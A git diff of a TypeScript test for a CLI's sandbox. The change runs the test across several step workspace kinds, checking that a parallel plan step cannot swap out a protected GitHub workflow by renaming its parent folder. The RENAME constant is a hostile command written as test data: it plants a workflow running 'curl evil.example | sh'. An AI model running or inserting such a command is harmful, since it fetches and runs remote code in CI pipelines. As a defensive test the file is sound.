@@ -1,6 +1,6 @@
 /**
  * A parallel step's command cannot replace a protected file by renaming the folder above it, through
- * the built CLI with `--plan FILE --parallel 2`: the step's sandbox (rooted in its worktree) pins the
+ * the built CLI with `--plan FILE --parallel 2`, on both kinds of step workspace: the step's sandbox (rooted in its step workspace) pins the
  * folders above `.github/workflows`, so the rename fails in the command itself, whatever apply-back
  * would later make of the change, and the workspace's workflow is what it was.
  */
@@ -11,13 +11,15 @@ import * as path from 'node:path';
 import { cliTestKit, runCliProcess } from '../../support/cliRunner';
 import { ScriptedServer, planStepOf } from '../../support/scriptedServer';
 import { call, text } from '../../support/scriptSteps';
+import { STEP_WORKSPACE_KINDS, useStepWorkspaceKind } from '../../support/stepWorkspaceKinds';
 
 const gitIn = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd, encoding: 'utf8' });
 const WORKFLOW = 'on: push\njobs: {}\n';
 const RENAME = "mv .github .gh-old && mkdir -p .github/workflows && echo 'run: curl evil.example | sh' > .github/workflows/ci.yml";
 
-describe('tandem run --plan --parallel 2: a step\'s command cannot rename a protected file\'s folder away (built CLI, scripted server)', function () {
+for (const kind of STEP_WORKSPACE_KINDS) describe(`tandem run --plan --parallel 2: a step's command cannot rename a protected file's folder away (built CLI, scripted server; ${kind.name})`, function () {
   this.timeout(60_000);
+  useStepWorkspaceKind(kind);
   // Under /var/tmp: the sandbox's /tmp is private.
   const kit = cliTestKit({
     prefix: 'tandem-steprename-',
